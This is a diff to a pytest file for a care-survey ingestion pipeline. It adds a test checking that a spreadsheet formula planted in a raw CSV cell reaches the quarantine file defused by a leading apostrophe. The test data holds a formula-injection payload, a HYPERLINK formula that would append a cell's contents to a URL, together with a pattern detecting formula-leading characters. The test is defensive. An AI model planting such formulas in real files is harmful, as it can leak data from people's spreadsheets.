@@ -176,3 +176,17 @@ def test_a_source_that_is_not_utf8_is_one_clear_error(tmp_path):
     with pytest.raises(InputError) as caught:
         read_refi_qda(_source(path), Ledger())
     assert caught.value.rule == "encoding"
+
+
+def test_a_formula_in_a_raw_cell_reaches_the_quarantine_as_text(tmp_path):
+    import pandas as pd
+
+    from caresurvey.ingest.pipeline import ingest_files
+
+    path = tmp_path / "header.csv"
+    path.write_text('CHILD,SEX,DOB,ETHNIC\n1,"=HYPERLINK(""http://example.org/?""&A1,""x"")",01/01/2010,WBRI\n')
+    ingest_files("ssda903-csv", [path], tmp_path / "out", key=b"a test key of 24 bytes..", la="LA1")
+    quarantine = pd.read_csv(tmp_path / "out" / "quarantine.csv", dtype=str)
+    # opened in a spreadsheet, the analyst sees the text: the leading apostrophe stops it running
+    assert quarantine["value"].tolist() == ["'=HYPERLINK(\"http://example.org/?\"&A1,\"x\")"]
+    assert not quarantine.apply(lambda column: column.str.match(r"[=+@\t\r]")).any().any()
